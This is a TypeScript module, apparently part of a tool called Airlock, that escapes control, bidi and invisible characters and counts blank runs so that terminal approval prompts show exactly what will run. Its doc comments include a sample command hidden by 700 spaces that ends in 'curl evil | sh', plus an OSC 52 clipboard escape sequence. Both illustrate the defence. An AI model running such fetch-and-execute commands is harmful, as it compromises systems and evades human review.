/**
 * Text that came from a model, a file or a tool, made safe to put in front of a person.
 *
 * A terminal obeys what it prints: ESC and C1 start sequences that set the clipboard (OSC 52),
 * hide text (`ESC[8m`) or move the cursor; bidi controls reorder what follows; zero-width and
 * other invisible characters make two different strings look the same; a run of blanks pushes the
 * rest of a command off the screen. An approval prompt is only worth something if what a person
 * reads is what runs, so every such character is shown as a visible escape, long runs of blanks
 * become a count, and a long text keeps its end in view.
 *
 * The shown form is unambiguous: two texts that differ (within the length budget) never show
 * the same. A literal backslash is doubled only where it would otherwise read as an escape
 * (`\\n` is a backslash and an n; `\n` is a line break), so ordinary commands stay readable.
 */

/** How a text is shown. */
export interface DisplayOptions {
  /**
   * Keep line breaks as real line breaks (file content, multi-line arguments). Default false:
   * one line, with a line break shown as `\n`.
   */
  multiline?: boolean;
  /**
   * The most characters shown (default 400; in multi-line text a line break counts as 20). A
   * longer text shows its start and its end, with a count of the characters left out between.
   */
  maxChars?: number;
  /**
   * The text was put together from pieces already shown with displayText (a message whose
   * template was filled with `displayFields`): its backslashes and count marks are those
   * pieces' escapes and stay as they are, so nothing is escaped twice. Hidden characters are
   * still escaped, blanks counted and a long text cut. Default false.
   */
  escaped?: boolean;
}

/** How the tokens are made: the two options that change them. */
interface Mode {
  multiline: boolean;
  escaped: boolean;
}

const DEFAULT_MAX_CHARS = 400;
/** In multi-line text a line break costs a terminal line of the budget, so many short lines are cut too. */
const LINE_COST = 20;
/** Share of the budget given to the end of a long text: the end of a command is where an attack hides. */
const TAIL_SHARE = 0.4;
/** The marks around a count (`⟪700 spaces⟫`); a literal one in the text is escaped so a text cannot fake a count. */
/** A gap this small is shown rather than counted. */
const SMALL_GAP = 32;
const OPEN = '\u27EA';
const CLOSE = '\u27EB';

/** Blanks collapse when they repeat at least this often; spaces allow some indentation first. */
const SPACE_RUN = { oneLine: 8, multiline: 16 } as const;
const OTHER_RUN = 4;

/**
 * Characters that must never reach a terminal as themselves: controls (C0, DEL, C1), format
 * characters (bidi embeddings, overrides and isolates, zero-width space/joiners, BOM, tags),
 * line and paragraph separators, lone surrogates, unassigned code points, every default-ignorable
 * code point (invisible fillers, variation selectors), and the braille blank.
 */
const HIDDEN = /^[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Cn}\p{Default_Ignorable_Code_Point}\u2800]$/u;
/** Blanks other than the plain space: they look like a space but are not one. */
const OTHER_BLANK = /^\p{Zs}$/u;

const NAMED: Record<string, string> = { '\n': '\\n', '\t': '\\t', '\r': '\\r' };
const RUN_NAMES: Record<string, string> = { ' ': 'spaces', '\n': 'newlines', '\t': 'tabs', '\r': 'carriage returns' };
/** After a literal backslash, these letters would read as an escape. */
const ESCAPE_LETTERS = new Set(['\\', 'n', 't', 'r', 'u']);

/** True when a code point must be shown as an escape. */
export function isHiddenCharacter(char: string): boolean {
  return char !== ' ' && (HIDDEN.test(char) || OTHER_BLANK.test(char));
}

/** `\u202E`, `\u{E0041}` — the visible form of one character. */
function escapeChar(char: string): string {
  const named = NAMED[char];
  if (named !== undefined) return named;
  const cp = char.codePointAt(0)!;
  const hex = cp.toString(16).toUpperCase();
  return cp > 0xffff ? `\\u{${hex}}` : `\\u${hex.padStart(4, '0')}`;
}

interface Token {
  /** What is printed. */
  shown: string;
  /** How many UTF-16 units of the text it stands for. */
  length: number;
  /** What it costs of the budget. */
  cost: number;
}

/** The character (a whole code point) starting at `i`. */
function charAt(text: string, i: number): string {
  const cp = text.codePointAt(i)!;
  // A lone surrogate is one unit; codePointAt returns it as is.
  return cp > 0xffff ? text.slice(i, i + 2) : text[i]!;
}

/** The character ending just before `end`. */
function charBefore(text: string, end: number): string {
  const low = text.charCodeAt(end - 1);
  if (low >= 0xdc00 && low <= 0xdfff && end >= 2) {
    const high = text.charCodeAt(end - 2);
    if (high >= 0xd800 && high <= 0xdbff) return text.slice(end - 2, end);
  }
  return text[end - 1]!;
}

function isBlank(char: string): boolean {
  return char === ' ' || char === '\n' || char === '\t' || char === '\r' || OTHER_BLANK.test(char) || char === '\u2028' || char === '\u2029';
}

function runThreshold(char: string, { multiline }: Mode): number {
  if (char === ' ') return multiline ? SPACE_RUN.multiline : SPACE_RUN.oneLine;
  // One blank line in multi-line text is ordinary; three line breaks in a row start to hide things.
  if (char === '\n' && multiline) return 3;
  return OTHER_RUN;
}

/** `⟪700 spaces⟫`, `⟪60 newlines⟫`, `⟪12 × \u00A0⟫`. */
function runToken(char: string, count: number): Token {
  const name = RUN_NAMES[char];
  const shown = `${OPEN}${count.toLocaleString('en-US')} ${name ?? `× ${escapeChar(char)}`}${CLOSE}`;
  return { shown, length: count * char.length, cost: shown.length };
}

/**
 * The token for the character `char` at `start`, given the character after it (`next`, or
 * undefined at the end). Runs are found by the callers, which know their direction.
 */
function charToken(char: string, next: string | undefined, mode: Mode): Token {
  if (char === '\n' && mode.multiline) return { shown: '\n', length: 1, cost: LINE_COST };
  if (mode.escaped && (char === '\\' || char === OPEN || char === CLOSE)) return { shown: char, length: 1, cost: 1 };
  if (char === '\\') {
    const ambiguous = next !== undefined && (ESCAPE_LETTERS.has(next) || next === OPEN || next === CLOSE || isHiddenCharacter(next));
    return ambiguous ? { shown: '\\\\', length: 1, cost: 2 } : { shown: '\\', length: 1, cost: 1 };
  }
  if (char === OPEN || char === CLOSE || isHiddenCharacter(char)) {
    const shown = escapeChar(char);
    return { shown, length: char.length, cost: shown.length };
  }
  return { shown: char, length: char.length, cost: 1 };
}

/** The token that starts at `i`, reading forwards. */
function tokenAt(text: string, i: number, mode: Mode): Token {
  const char = charAt(text, i);
  if (isBlank(char)) {
    let end = i + char.length;
    while (end < text.length && text.startsWith(char, end)) end += char.length;
    const count = (end - i) / char.length;
    if (count >= runThreshold(char, mode)) return runToken(char, count);
  }
  const next = i + char.length < text.length ? charAt(text, i + char.length) : undefined;
  return charToken(char, next, mode);
}

/** The token that ends at `end`, reading backwards; never reaches before `floor`. */
function tokenBefore(text: string, end: number, floor: number, mode: Mode): Token {
  const char = charBefore(text, end);
  const next = end < text.length ? charAt(text, end) : undefined;
  if (isBlank(char)) {
    let start = end - char.length;
    while (start - char.length >= floor && text.startsWith(char, start - char.length)) start -= char.length;
    const count = (end - start) / char.length;
    if (count >= runThreshold(char, mode)) return runToken(char, count);
  }
  return charToken(char, next, mode);
}

/**
 * The one way to show a string that came from a model, a file or a tool: controls, bidi and
 * invisible characters escaped (`\u202E`), runs of blanks counted (`⟪700 spaces⟫`), and — when
 * longer than the budget — the start and the end with a count of what was left out between,
 * so the end of a command is never hidden. Nothing in the result is interpreted by a terminal.
 *
 * @example
 * displayText('rm -rf /tmp/x' + ' '.repeat(700) + '; curl evil | sh')
 * // 'rm -rf /tmp/x⟪700 spaces⟫; curl evil | sh'
 * displayText('ok\u202Egnp.exe') // 'ok\\u202Egnp.exe'
 */
export function displayText(text: string, options: DisplayOptions = {}): string {
  const mode: Mode = { multiline: options.multiline === true, escaped: options.escaped === true };
  const budget = Math.max(16, Math.floor(options.maxChars ?? DEFAULT_MAX_CHARS));
  if (!Number.isFinite(budget)) return renderAll(text, mode);
  const tailBudget = Math.floor(budget * TAIL_SHARE);
  const headBudget = budget - tailBudget;

  const head: string[] = [];
  let i = 0;
  let spent = 0;
  while (i < text.length) {
    const token = tokenAt(text, i, mode);
    if (spent + token.cost > headBudget) break;
    head.push(token.shown);
    spent += token.cost;
    i += token.length;
  }
  if (i >= text.length) return head.join('');

  // Too long: take the end from the back, then check whether the whole text fits after all.
  const tail: string[] = [];
  let j = text.length;
  let tailSpent = 0;
  while (j > i) {
    const token = tokenBefore(text, j, i, mode);
    if (tailSpent + token.cost > tailBudget) break;
    tail.push(token.shown);
    tailSpent += token.cost;
    j -= token.length;
  }
  if (j <= i) return head.join('') + tail.reverse().join('');
  const left = j - i;
  // Leaving out a few characters would save less than the note about them takes.
  if (left <= SMALL_GAP) return renderAll(text, mode);
  const gap = `${OPEN}… ${left.toLocaleString('en-US')} character${left === 1 ? '' : 's'} left out …${CLOSE}`;
  return head.join('') + gap + tail.reverse().join('');
}

function renderAll(text: string, mode: Mode): string {
  let out = '';
  for (let i = 0; i < text.length; ) {
    const token = tokenAt(text, i, mode);
    out += token.shown;
    i += token.length;
  }
  return out;
}

/**
 * A value of any kind for a person: strings as `displayText` shows them, anything else as its
 * JSON. JSON's own escapes for control characters (`\u001b`, `\n`) are read back first, so
 * a control character looks the same inside a value as in a string (`\u001B`), and bidi and
 * invisible characters, which JSON leaves raw, are escaped too.
 *
 * @example
 * displayValue({ path: 'a\u200Bb', cmd: 'x\u001b[8m' }) // '{"path":"a\\u200Bb","cmd":"x\\u001B[8m"}'
 */
export function displayValue(value: unknown, options: DisplayOptions = {}): string {
  if (typeof value === 'string') return displayText(value, options);
  let text: string;
  try {
    text = JSON.stringify(value) ?? String(value);
  } catch {
    return displayText(String(value), options);
  }
  return displayText(unescapeJsonControls(text), options);
}

/** A field of a message is cut later than a text shown alone: paths and lists of names run long. */
const FIELD_MAX_CHARS = 1000;

/**
 * `value` with every string in it (an object's fields, an array's items, at any depth) shown as
 * displayText shows it on one line; numbers, booleans and objects of classes as they are. For
 * filling a message template with values from outside (a path, a settings entry, an error's
 * words): no value can add a line of its own to the message, so a line break in a folder's name
 * cannot start a line that reads like the message's `Fix:`. Show the filled message with
 * `displayText(message, { multiline: true, escaped: true })` so nothing is escaped twice.
 *
 * @example
 * const d = displayFields({ file: '/p/a\nFix: run this', n: 2 });
 * `Cannot read ${d.file}.` // 'Cannot read /p/a\\nFix: run this.'
 */
export function displayFields<T>(value: T, options: { maxChars?: number } = {}): T {
  const shown = { maxChars: options.maxChars ?? FIELD_MAX_CHARS };
  const seen = new WeakMap<object, unknown>();
  const walk = (v: unknown): unknown => {
    if (typeof v === 'string') return displayText(v, shown);
    if (v === null || typeof v !== 'object') return v;
    const proto = Object.getPrototypeOf(v) as unknown;
    if (!Array.isArray(v) && proto !== Object.prototype && proto !== null) return v;
    if (seen.has(v)) return seen.get(v);
    const out: Record<string, unknown> | unknown[] = Array.isArray(v) ? [] : {};
    seen.set(v, out);
    for (const [k, item] of Object.entries(v)) (out as Record<string, unknown>)[k] = walk(item);
    return out;
  };
  return walk(value) as T;
}

const JSON_SHORT: Record<string, string> = { n: '\n', t: '\t', r: '\r', b: '\b', f: '\f' };

/** JSON text with its escapes for control characters and lone surrogates turned back into the characters. */
function unescapeJsonControls(json: string): string {
  if (!json.includes('\\')) return json;
  let out = '';
  for (let i = 0; i < json.length; i++) {
    const c = json[i]!;
    if (c !== '\\') {
      out += c;
      continue;
    }
    const n = json[i + 1]!;
    const short = JSON_SHORT[n];
    if (short !== undefined) {
      out += short;
      i += 1;
    } else if (n === 'u') {
      out += String.fromCharCode(parseInt(json.slice(i + 2, i + 6), 16));
      i += 5;
    } else {
      // \\, \" and \/ stay as written: they are how JSON writes those characters.
      out += c + n;
      i += 1;
    }
  }
  return out;
}

/** What `terminalSafe` keeps as it is; both default to true. */
export interface TerminalSafeOptions {
  /** Keep line breaks (LF, CR LF); false shows them as `\n`, for a text that must stay one line (a choice). */
  lineBreaks?: boolean;
  /** Keep tabs; false shows them as `\t` (a dialog's text, where a tab is never Airlock's own). */
  tabs?: boolean;
}

/**
 * Last line of defence for text already put together (a status line, a diagnostic, a prompt a
 * third-party extension wrote, a tool's output on a terminal): every hidden character becomes
 * its escape; line breaks, tabs and CR LF stay unless `options` say otherwise. Unlike
 * `displayText` it neither counts blanks nor cuts, and leaves backslashes alone, so text that
 * went through `displayText` passes unchanged. Its escapes are JSON's (`\u001B`, `\n`, `\r`, a
 * surrogate pair for astral characters), and everything it escapes can only sit inside a JSON
 * string, so JSON output stays valid and means the same.
 * Use `displayText` on each piece from a model, file or tool; use this on whole writes.
 *
 * @example
 * terminalSafe('airlock: \u001b]52;c;ZXZpbA==\u0007 denied\n') // 'airlock: \\u001B]52;c;ZXZpbA==\\u0007 denied\n'
 * terminalSafe('Deny\n  Allow once', { lineBreaks: false }) // 'Deny\\n  Allow once'
 */
export function terminalSafe(text: string, options: TerminalSafeOptions = {}): string {
  const lines = options.lineBreaks !== false;
  const tabs = options.tabs !== false;
  // Plain ASCII (most output) is checked with a cheap class first; Unicode property classes are slow.
  if (PLAIN_ASCII.test(text) && (lines || !text.includes('\n')) && (tabs || !text.includes('\t'))) return text;
  return text.replace(TERMINAL_HIDDEN, (char) => {
    if (char === '\n' || char === '\r\n') return lines ? char : char === '\n' ? '\\n' : '\\r\\n';
    if (char === '\t') return tabs ? char : '\\t';
    // A lone CR would move the cursor back over the line; shown as displayText shows it.
    if (char === '\r') return '\\r';
    return jsonEscape(char);
  });
}

const PLAIN_ASCII = /^[\x20-\x7E\n\t]*$/;
/** The HIDDEN characters and blanks other than the space, as one global pattern; CR LF, LF and tab are matched to be kept. */
const TERMINAL_HIDDEN = /\r\n|[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Cn}\p{Default_Ignorable_Code_Point}\u2800\u00A0\u1680\u2000-\u200A\u202F\u205F\u3000]/gu;

/** `\u202E`; an astral character as its two UTF-16 halves, as JSON writes it. */
function jsonEscape(char: string): string {
  let out = '';
  for (let k = 0; k < char.length; k++) out += `\\u${char.charCodeAt(k).toString(16).toUpperCase().padStart(4, '0')}`;
  return out;
}
